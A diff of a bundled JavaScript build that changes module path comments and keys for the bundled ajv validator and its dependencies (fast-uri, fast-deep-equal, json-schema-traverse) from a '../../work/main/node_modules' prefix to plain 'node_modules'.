@@ -47,9 +47,9 @@ var __toESM = (mod, isNodeMode, target) => (target = mod != null ? __create(__ge
   mod
 ));
 
-// ../../work/main/node_modules/ajv/dist/compile/codegen/code.js
+// node_modules/ajv/dist/compile/codegen/code.js
 var require_code = __commonJS({
-  "../../work/main/node_modules/ajv/dist/compile/codegen/code.js"(exports) {
+  "node_modules/ajv/dist/compile/codegen/code.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     exports.regexpCode = exports.getEsmExportName = exports.getProperty = exports.safeStringify = exports.stringify = exports.strConcat = exports.addCodeArg = exports.str = exports._ = exports.nil = exports._Code = exports.Name = exports.IDENTIFIER = exports._CodeOrName = void 0;
@@ -201,9 +201,9 @@ var require_code = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/compile/codegen/scope.js
+// node_modules/ajv/dist/compile/codegen/scope.js
 var require_scope = __commonJS({
-  "../../work/main/node_modules/ajv/dist/compile/codegen/scope.js"(exports) {
+  "node_modules/ajv/dist/compile/codegen/scope.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     exports.ValueScope = exports.ValueScopeName = exports.Scope = exports.varKinds = exports.UsedValueState = void 0;
@@ -346,9 +346,9 @@ var require_scope = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/compile/codegen/index.js
+// node_modules/ajv/dist/compile/codegen/index.js
 var require_codegen = __commonJS({
-  "../../work/main/node_modules/ajv/dist/compile/codegen/index.js"(exports) {
+  "node_modules/ajv/dist/compile/codegen/index.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     exports.or = exports.and = exports.not = exports.CodeGen = exports.operators = exports.varKinds = exports.ValueScopeName = exports.ValueScope = exports.Scope = exports.Name = exports.regexpCode = exports.stringify = exports.getProperty = exports.nil = exports.strConcat = exports.str = exports._ = void 0;
@@ -1066,9 +1066,9 @@ var require_codegen = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/compile/util.js
+// node_modules/ajv/dist/compile/util.js
 var require_util = __commonJS({
-  "../../work/main/node_modules/ajv/dist/compile/util.js"(exports) {
+  "node_modules/ajv/dist/compile/util.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     exports.checkStrictMode = exports.getErrorPath = exports.Type = exports.useFunc = exports.setEvaluated = exports.evaluatedPropsToName = exports.mergeEvaluated = exports.eachItem = exports.unescapeJsonPointer = exports.escapeJsonPointer = exports.escapeFragment = exports.unescapeFragment = exports.schemaRefOrVal = exports.schemaHasRulesButRef = exports.schemaHasRules = exports.checkUnknownRules = exports.alwaysValidSchema = exports.toHash = void 0;
@@ -1233,9 +1233,9 @@ var require_util = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/compile/names.js
+// node_modules/ajv/dist/compile/names.js
 var require_names = __commonJS({
-  "../../work/main/node_modules/ajv/dist/compile/names.js"(exports) {
+  "node_modules/ajv/dist/compile/names.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     var codegen_1 = require_codegen();
@@ -1272,9 +1272,9 @@ var require_names = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/compile/errors.js
+// node_modules/ajv/dist/compile/errors.js
 var require_errors = __commonJS({
-  "../../work/main/node_modules/ajv/dist/compile/errors.js"(exports) {
+  "node_modules/ajv/dist/compile/errors.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     exports.extendErrors = exports.resetErrorsCount = exports.reportExtraError = exports.reportError = exports.keyword$DataError = exports.keywordError = void 0;
@@ -1394,9 +1394,9 @@ var require_errors = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/compile/validate/boolSchema.js
+// node_modules/ajv/dist/compile/validate/boolSchema.js
 var require_boolSchema = __commonJS({
-  "../../work/main/node_modules/ajv/dist/compile/validate/boolSchema.js"(exports) {
+  "node_modules/ajv/dist/compile/validate/boolSchema.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     exports.boolOrEmptySchema = exports.topBoolOrEmptySchema = void 0;
@@ -1445,9 +1445,9 @@ var require_boolSchema = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/compile/rules.js
+// node_modules/ajv/dist/compile/rules.js
 var require_rules = __commonJS({
-  "../../work/main/node_modules/ajv/dist/compile/rules.js"(exports) {
+  "node_modules/ajv/dist/compile/rules.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     exports.getRules = exports.isJSONType = void 0;
@@ -1476,9 +1476,9 @@ var require_rules = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/compile/validate/applicability.js
+// node_modules/ajv/dist/compile/validate/applicability.js
 var require_applicability = __commonJS({
-  "../../work/main/node_modules/ajv/dist/compile/validate/applicability.js"(exports) {
+  "node_modules/ajv/dist/compile/validate/applicability.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     exports.shouldUseRule = exports.shouldUseGroup = exports.schemaHasRulesForType = void 0;
@@ -1499,9 +1499,9 @@ var require_applicability = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/compile/validate/dataType.js
+// node_modules/ajv/dist/compile/validate/dataType.js
 var require_dataType = __commonJS({
-  "../../work/main/node_modules/ajv/dist/compile/validate/dataType.js"(exports) {
+  "node_modules/ajv/dist/compile/validate/dataType.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     exports.reportTypeError = exports.checkDataTypes = exports.checkDataType = exports.coerceAndCheckDataType = exports.getJSONTypes = exports.getSchemaTypes = exports.DataType = void 0;
@@ -1683,9 +1683,9 @@ var require_dataType = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/compile/validate/defaults.js
+// node_modules/ajv/dist/compile/validate/defaults.js
 var require_defaults = __commonJS({
-  "../../work/main/node_modules/ajv/dist/compile/validate/defaults.js"(exports) {
+  "node_modules/ajv/dist/compile/validate/defaults.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     exports.assignDefaults = void 0;
@@ -1720,9 +1720,9 @@ var require_defaults = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/vocabularies/code.js
+// node_modules/ajv/dist/vocabularies/code.js
 var require_code2 = __commonJS({
-  "../../work/main/node_modules/ajv/dist/vocabularies/code.js"(exports) {
+  "node_modules/ajv/dist/vocabularies/code.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     exports.validateUnion = exports.validateArray = exports.usePattern = exports.callValidateCode = exports.schemaProperties = exports.allSchemaProperties = exports.noPropertyInData = exports.propertyInData = exports.isOwnProperty = exports.hasPropFunc = exports.reportMissingProp = exports.checkMissingProp = exports.checkReportMissingProp = void 0;
@@ -1853,9 +1853,9 @@ var require_code2 = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/compile/validate/keyword.js
+// node_modules/ajv/dist/compile/validate/keyword.js
 var require_keyword = __commonJS({
-  "../../work/main/node_modules/ajv/dist/compile/validate/keyword.js"(exports) {
+  "node_modules/ajv/dist/compile/validate/keyword.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     exports.validateKeywordUsage = exports.validSchemaType = exports.funcKeywordCode = exports.macroKeywordCode = void 0;
@@ -1971,9 +1971,9 @@ var require_keyword = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/compile/validate/subschema.js
+// node_modules/ajv/dist/compile/validate/subschema.js
 var require_subschema = __commonJS({
-  "../../work/main/node_modules/ajv/dist/compile/validate/subschema.js"(exports) {
+  "node_modules/ajv/dist/compile/validate/subschema.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     exports.extendSubschemaMode = exports.extendSubschemaData = exports.getSubschema = void 0;
@@ -2054,9 +2054,9 @@ var require_subschema = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/fast-deep-equal/index.js
+// node_modules/fast-deep-equal/index.js
 var require_fast_deep_equal = __commonJS({
-  "../../work/main/node_modules/fast-deep-equal/index.js"(exports, module2) {
+  "node_modules/fast-deep-equal/index.js"(exports, module2) {
     "use strict";
     module2.exports = function equal(a, b) {
       if (a === b) return true;
@@ -2089,9 +2089,9 @@ var require_fast_deep_equal = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/json-schema-traverse/index.js
+// node_modules/json-schema-traverse/index.js
 var require_json_schema_traverse = __commonJS({
-  "../../work/main/node_modules/json-schema-traverse/index.js"(exports, module2) {
+  "node_modules/json-schema-traverse/index.js"(exports, module2) {
     "use strict";
     var traverse = module2.exports = function(schema, opts, cb) {
       if (typeof opts == "function") {
@@ -2177,9 +2177,9 @@ var require_json_schema_traverse = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/compile/resolve.js
+// node_modules/ajv/dist/compile/resolve.js
 var require_resolve = __commonJS({
-  "../../work/main/node_modules/ajv/dist/compile/resolve.js"(exports) {
+  "node_modules/ajv/dist/compile/resolve.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     exports.getSchemaRefs = exports.resolveUrl = exports.normalizeId = exports._getFullPath = exports.getFullPath = exports.inlineRef = void 0;
@@ -2333,9 +2333,9 @@ var require_resolve = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/compile/validate/index.js
+// node_modules/ajv/dist/compile/validate/index.js
 var require_validate = __commonJS({
-  "../../work/main/node_modules/ajv/dist/compile/validate/index.js"(exports) {
+  "node_modules/ajv/dist/compile/validate/index.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     exports.getData = exports.KeywordCxt = exports.validateFunctionCode = void 0;
@@ -2841,9 +2841,9 @@ var require_validate = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/runtime/validation_error.js
+// node_modules/ajv/dist/runtime/validation_error.js
 var require_validation_error = __commonJS({
-  "../../work/main/node_modules/ajv/dist/runtime/validation_error.js"(exports) {
+  "node_modules/ajv/dist/runtime/validation_error.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     var ValidationError = class extends Error {
@@ -2857,9 +2857,9 @@ var require_validation_error = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/compile/ref_error.js
+// node_modules/ajv/dist/compile/ref_error.js
 var require_ref_error = __commonJS({
-  "../../work/main/node_modules/ajv/dist/compile/ref_error.js"(exports) {
+  "node_modules/ajv/dist/compile/ref_error.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     var resolve_1 = require_resolve();
@@ -2874,9 +2874,9 @@ var require_ref_error = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/compile/index.js
+// node_modules/ajv/dist/compile/index.js
 var require_compile = __commonJS({
-  "../../work/main/node_modules/ajv/dist/compile/index.js"(exports) {
+  "node_modules/ajv/dist/compile/index.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     exports.resolveSchema = exports.getCompilingSchema = exports.resolveRef = exports.compileSchema = exports.SchemaEnv = void 0;
@@ -3098,9 +3098,9 @@ var require_compile = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/refs/data.json
+// node_modules/ajv/dist/refs/data.json
 var require_data = __commonJS({
-  "../../work/main/node_modules/ajv/dist/refs/data.json"(exports, module2) {
+  "node_modules/ajv/dist/refs/data.json"(exports, module2) {
     module2.exports = {
       $id: "https://raw.githubusercontent.com/ajv-validator/ajv/master/lib/refs/data.json#",
       description: "Meta-schema for $data reference (JSON AnySchema extension proposal)",
@@ -3117,9 +3117,9 @@ var require_data = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/fast-uri/lib/utils.js
+// node_modules/fast-uri/lib/utils.js
 var require_utils = __commonJS({
-  "../../work/main/node_modules/fast-uri/lib/utils.js"(exports, module2) {
+  "node_modules/fast-uri/lib/utils.js"(exports, module2) {
     "use strict";
     var isUUID = RegExp.prototype.test.bind(/^[\da-f]{8}-[\da-f]{4}-[\da-f]{4}-[\da-f]{4}-[\da-f]{12}$/iu);
     var isIPv4 = RegExp.prototype.test.bind(/^(?:(?:25[0-5]|2[0-4]\d|1\d{2}|[1-9]\d|\d)\.){3}(?:25[0-5]|2[0-4]\d|1\d{2}|[1-9]\d|\d)$/u);
@@ -3651,9 +3651,9 @@ var require_utils = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/fast-uri/lib/schemes.js
+// node_modules/fast-uri/lib/schemes.js
 var require_schemes = __commonJS({
-  "../../work/main/node_modules/fast-uri/lib/schemes.js"(exports, module2) {
+  "node_modules/fast-uri/lib/schemes.js"(exports, module2) {
     "use strict";
     var { isUUID } = require_utils();
     var URN_REG = /^([\da-z][\d\-a-z]{0,31}):((?:[\w!$'()*+,\-./:;=@]|%[\da-f]{2})+)$/iu;
@@ -3862,9 +3862,9 @@ var require_schemes = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/fast-uri/index.js
+// node_modules/fast-uri/index.js
 var require_fast_uri = __commonJS({
-  "../../work/main/node_modules/fast-uri/index.js"(exports, module2) {
+  "node_modules/fast-uri/index.js"(exports, module2) {
     "use strict";
     var { normalizeIPv6, removeDotSegments, removeDotSegmentsRelative, recomposeAuthority, normalizePercentEncoding, normalizePathEncoding, serializePathEncoding, normalizeQueryFragmentEncoding, encodeQuery, encodeFragment, reescapeHostDelimiters, isIPv4, nonSimpleDomain } = require_utils();
     var { SCHEMES, getSchemeHandler } = require_schemes();
@@ -4292,9 +4292,9 @@ var require_fast_uri = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/runtime/uri.js
+// node_modules/ajv/dist/runtime/uri.js
 var require_uri = __commonJS({
-  "../../work/main/node_modules/ajv/dist/runtime/uri.js"(exports) {
+  "node_modules/ajv/dist/runtime/uri.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     var uri = require_fast_uri();
@@ -4303,9 +4303,9 @@ var require_uri = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/core.js
+// node_modules/ajv/dist/core.js
 var require_core = __commonJS({
-  "../../work/main/node_modules/ajv/dist/core.js"(exports) {
+  "node_modules/ajv/dist/core.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     exports.CodeGen = exports.Name = exports.nil = exports.stringify = exports.str = exports._ = exports.KeywordCxt = void 0;
@@ -4914,9 +4914,9 @@ var require_core = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/vocabularies/core/id.js
+// node_modules/ajv/dist/vocabularies/core/id.js
 var require_id = __commonJS({
-  "../../work/main/node_modules/ajv/dist/vocabularies/core/id.js"(exports) {
+  "node_modules/ajv/dist/vocabularies/core/id.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     var def = {
@@ -4929,9 +4929,9 @@ var require_id = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/vocabularies/core/ref.js
+// node_modules/ajv/dist/vocabularies/core/ref.js
 var require_ref = __commonJS({
-  "../../work/main/node_modules/ajv/dist/vocabularies/core/ref.js"(exports) {
+  "node_modules/ajv/dist/vocabularies/core/ref.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     exports.callRef = exports.getValidate = void 0;
@@ -5051,9 +5051,9 @@ var require_ref = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/vocabularies/core/index.js
+// node_modules/ajv/dist/vocabularies/core/index.js
 var require_core2 = __commonJS({
-  "../../work/main/node_modules/ajv/dist/vocabularies/core/index.js"(exports) {
+  "node_modules/ajv/dist/vocabularies/core/index.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     var id_1 = require_id();
@@ -5072,9 +5072,9 @@ var require_core2 = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/vocabularies/validation/limitNumber.js
+// node_modules/ajv/dist/vocabularies/validation/limitNumber.js
 var require_limitNumber = __commonJS({
-  "../../work/main/node_modules/ajv/dist/vocabularies/validation/limitNumber.js"(exports) {
+  "node_modules/ajv/dist/vocabularies/validation/limitNumber.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     var codegen_1 = require_codegen();
@@ -5104,9 +5104,9 @@ var require_limitNumber = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/vocabularies/validation/multipleOf.js
+// node_modules/ajv/dist/vocabularies/validation/multipleOf.js
 var require_multipleOf = __commonJS({
-  "../../work/main/node_modules/ajv/dist/vocabularies/validation/multipleOf.js"(exports) {
+  "node_modules/ajv/dist/vocabularies/validation/multipleOf.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     var codegen_1 = require_codegen();
@@ -5132,9 +5132,9 @@ var require_multipleOf = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/runtime/ucs2length.js
+// node_modules/ajv/dist/runtime/ucs2length.js
 var require_ucs2length = __commonJS({
-  "../../work/main/node_modules/ajv/dist/runtime/ucs2length.js"(exports) {
+  "node_modules/ajv/dist/runtime/ucs2length.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     function ucs2length(str2) {
@@ -5158,9 +5158,9 @@ var require_ucs2length = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/vocabularies/validation/limitLength.js
+// node_modules/ajv/dist/vocabularies/validation/limitLength.js
 var require_limitLength = __commonJS({
-  "../../work/main/node_modules/ajv/dist/vocabularies/validation/limitLength.js"(exports) {
+  "node_modules/ajv/dist/vocabularies/validation/limitLength.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     var codegen_1 = require_codegen();
@@ -5190,9 +5190,9 @@ var require_limitLength = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/vocabularies/validation/pattern.js
+// node_modules/ajv/dist/vocabularies/validation/pattern.js
 var require_pattern = __commonJS({
-  "../../work/main/node_modules/ajv/dist/vocabularies/validation/pattern.js"(exports) {
+  "node_modules/ajv/dist/vocabularies/validation/pattern.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     var code_1 = require_code2();
@@ -5227,9 +5227,9 @@ var require_pattern = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/vocabularies/validation/limitProperties.js
+// node_modules/ajv/dist/vocabularies/validation/limitProperties.js
 var require_limitProperties = __commonJS({
-  "../../work/main/node_modules/ajv/dist/vocabularies/validation/limitProperties.js"(exports) {
+  "node_modules/ajv/dist/vocabularies/validation/limitProperties.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     var codegen_1 = require_codegen();
@@ -5256,9 +5256,9 @@ var require_limitProperties = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/vocabularies/validation/required.js
+// node_modules/ajv/dist/vocabularies/validation/required.js
 var require_required = __commonJS({
-  "../../work/main/node_modules/ajv/dist/vocabularies/validation/required.js"(exports) {
+  "node_modules/ajv/dist/vocabularies/validation/required.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     var code_1 = require_code2();
@@ -5338,9 +5338,9 @@ var require_required = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/vocabularies/validation/limitItems.js
+// node_modules/ajv/dist/vocabularies/validation/limitItems.js
 var require_limitItems = __commonJS({
-  "../../work/main/node_modules/ajv/dist/vocabularies/validation/limitItems.js"(exports) {
+  "node_modules/ajv/dist/vocabularies/validation/limitItems.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     var codegen_1 = require_codegen();
@@ -5367,9 +5367,9 @@ var require_limitItems = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/runtime/equal.js
+// node_modules/ajv/dist/runtime/equal.js
 var require_equal = __commonJS({
-  "../../work/main/node_modules/ajv/dist/runtime/equal.js"(exports) {
+  "node_modules/ajv/dist/runtime/equal.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     var equal = require_fast_deep_equal();
@@ -5378,9 +5378,9 @@ var require_equal = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/vocabularies/validation/uniqueItems.js
+// node_modules/ajv/dist/vocabularies/validation/uniqueItems.js
 var require_uniqueItems = __commonJS({
-  "../../work/main/node_modules/ajv/dist/vocabularies/validation/uniqueItems.js"(exports) {
+  "node_modules/ajv/dist/vocabularies/validation/uniqueItems.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     var dataType_1 = require_dataType();
@@ -5445,9 +5445,9 @@ var require_uniqueItems = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/vocabularies/validation/const.js
+// node_modules/ajv/dist/vocabularies/validation/const.js
 var require_const = __commonJS({
-  "../../work/main/node_modules/ajv/dist/vocabularies/validation/const.js"(exports) {
+  "node_modules/ajv/dist/vocabularies/validation/const.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     var codegen_1 = require_codegen();
@@ -5474,9 +5474,9 @@ var require_const = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/vocabularies/validation/enum.js
+// node_modules/ajv/dist/vocabularies/validation/enum.js
 var require_enum = __commonJS({
-  "../../work/main/node_modules/ajv/dist/vocabularies/validation/enum.js"(exports) {
+  "node_modules/ajv/dist/vocabularies/validation/enum.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     var codegen_1 = require_codegen();
@@ -5523,9 +5523,9 @@ var require_enum = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/vocabularies/validation/index.js
+// node_modules/ajv/dist/vocabularies/validation/index.js
 var require_validation = __commonJS({
-  "../../work/main/node_modules/ajv/dist/vocabularies/validation/index.js"(exports) {
+  "node_modules/ajv/dist/vocabularies/validation/index.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     var limitNumber_1 = require_limitNumber();
@@ -5561,9 +5561,9 @@ var require_validation = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/vocabularies/applicator/additionalItems.js
+// node_modules/ajv/dist/vocabularies/applicator/additionalItems.js
 var require_additionalItems = __commonJS({
-  "../../work/main/node_modules/ajv/dist/vocabularies/applicator/additionalItems.js"(exports) {
+  "node_modules/ajv/dist/vocabularies/applicator/additionalItems.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     exports.validateAdditionalItems = void 0;
@@ -5614,9 +5614,9 @@ var require_additionalItems = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/vocabularies/applicator/items.js
+// node_modules/ajv/dist/vocabularies/applicator/items.js
 var require_items = __commonJS({
-  "../../work/main/node_modules/ajv/dist/vocabularies/applicator/items.js"(exports) {
+  "node_modules/ajv/dist/vocabularies/applicator/items.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     exports.validateTuple = void 0;
@@ -5671,9 +5671,9 @@ var require_items = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/vocabularies/applicator/prefixItems.js
+// node_modules/ajv/dist/vocabularies/applicator/prefixItems.js
 var require_prefixItems = __commonJS({
-  "../../work/main/node_modules/ajv/dist/vocabularies/applicator/prefixItems.js"(exports) {
+  "node_modules/ajv/dist/vocabularies/applicator/prefixItems.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     var items_1 = require_items();
@@ -5688,9 +5688,9 @@ var require_prefixItems = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/vocabularies/applicator/items2020.js
+// node_modules/ajv/dist/vocabularies/applicator/items2020.js
 var require_items2020 = __commonJS({
-  "../../work/main/node_modules/ajv/dist/vocabularies/applicator/items2020.js"(exports) {
+  "node_modules/ajv/dist/vocabularies/applicator/items2020.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     var codegen_1 = require_codegen();
@@ -5723,9 +5723,9 @@ var require_items2020 = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/vocabularies/applicator/contains.js
+// node_modules/ajv/dist/vocabularies/applicator/contains.js
 var require_contains = __commonJS({
-  "../../work/main/node_modules/ajv/dist/vocabularies/applicator/contains.js"(exports) {
+  "node_modules/ajv/dist/vocabularies/applicator/contains.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     var codegen_1 = require_codegen();
@@ -5817,9 +5817,9 @@ var require_contains = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/vocabularies/applicator/dependencies.js
+// node_modules/ajv/dist/vocabularies/applicator/dependencies.js
 var require_dependencies = __commonJS({
-  "../../work/main/node_modules/ajv/dist/vocabularies/applicator/dependencies.js"(exports) {
+  "node_modules/ajv/dist/vocabularies/applicator/dependencies.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     exports.validateSchemaDeps = exports.validatePropertyDeps = exports.error = void 0;
@@ -5911,9 +5911,9 @@ var require_dependencies = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/vocabularies/applicator/propertyNames.js
+// node_modules/ajv/dist/vocabularies/applicator/propertyNames.js
 var require_propertyNames = __commonJS({
-  "../../work/main/node_modules/ajv/dist/vocabularies/applicator/propertyNames.js"(exports) {
+  "node_modules/ajv/dist/vocabularies/applicator/propertyNames.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     var codegen_1 = require_codegen();
@@ -5954,9 +5954,9 @@ var require_propertyNames = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/vocabularies/applicator/additionalProperties.js
+// node_modules/ajv/dist/vocabularies/applicator/additionalProperties.js
 var require_additionalProperties = __commonJS({
-  "../../work/main/node_modules/ajv/dist/vocabularies/applicator/additionalProperties.js"(exports) {
+  "node_modules/ajv/dist/vocabularies/applicator/additionalProperties.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     var code_1 = require_code2();
@@ -6060,9 +6060,9 @@ var require_additionalProperties = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/vocabularies/applicator/properties.js
+// node_modules/ajv/dist/vocabularies/applicator/properties.js
 var require_properties = __commonJS({
-  "../../work/main/node_modules/ajv/dist/vocabularies/applicator/properties.js"(exports) {
+  "node_modules/ajv/dist/vocabularies/applicator/properties.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     var validate_1 = require_validate();
@@ -6118,9 +6118,9 @@ var require_properties = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/vocabularies/applicator/patternProperties.js
+// node_modules/ajv/dist/vocabularies/applicator/patternProperties.js
 var require_patternProperties = __commonJS({
-  "../../work/main/node_modules/ajv/dist/vocabularies/applicator/patternProperties.js"(exports) {
+  "node_modules/ajv/dist/vocabularies/applicator/patternProperties.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     var code_1 = require_code2();
@@ -6192,9 +6192,9 @@ var require_patternProperties = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/vocabularies/applicator/not.js
+// node_modules/ajv/dist/vocabularies/applicator/not.js
 var require_not = __commonJS({
-  "../../work/main/node_modules/ajv/dist/vocabularies/applicator/not.js"(exports) {
+  "node_modules/ajv/dist/vocabularies/applicator/not.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     var util_1 = require_util();
@@ -6223,9 +6223,9 @@ var require_not = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/vocabularies/applicator/anyOf.js
+// node_modules/ajv/dist/vocabularies/applicator/anyOf.js
 var require_anyOf = __commonJS({
-  "../../work/main/node_modules/ajv/dist/vocabularies/applicator/anyOf.js"(exports) {
+  "node_modules/ajv/dist/vocabularies/applicator/anyOf.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     var code_1 = require_code2();
@@ -6240,9 +6240,9 @@ var require_anyOf = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/vocabularies/applicator/oneOf.js
+// node_modules/ajv/dist/vocabularies/applicator/oneOf.js
 var require_oneOf = __commonJS({
-  "../../work/main/node_modules/ajv/dist/vocabularies/applicator/oneOf.js"(exports) {
+  "node_modules/ajv/dist/vocabularies/applicator/oneOf.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     var codegen_1 = require_codegen();
@@ -6298,9 +6298,9 @@ var require_oneOf = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/vocabularies/applicator/allOf.js
+// node_modules/ajv/dist/vocabularies/applicator/allOf.js
 var require_allOf = __commonJS({
-  "../../work/main/node_modules/ajv/dist/vocabularies/applicator/allOf.js"(exports) {
+  "node_modules/ajv/dist/vocabularies/applicator/allOf.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     var util_1 = require_util();
@@ -6325,9 +6325,9 @@ var require_allOf = __commonJS({
   }
 });
 
-// ../../work/main/node_modules/ajv/dist/vocabularies/applicator/if.js
+// node_modules/ajv/dist/vocabularies/applicator/if.js
 var require_if = __commonJS({
-  "../../work/main/node_modules/ajv/dist/vocabularies/applicator/if.js"(exports) {
+  "node_modules/ajv/dist/vocabularies/applicator/if.js"(exports) {
     "use strict";
     Object.defineProperty(exports, "__esModule", { value: true });
     var codegen_1 = require_codegen();
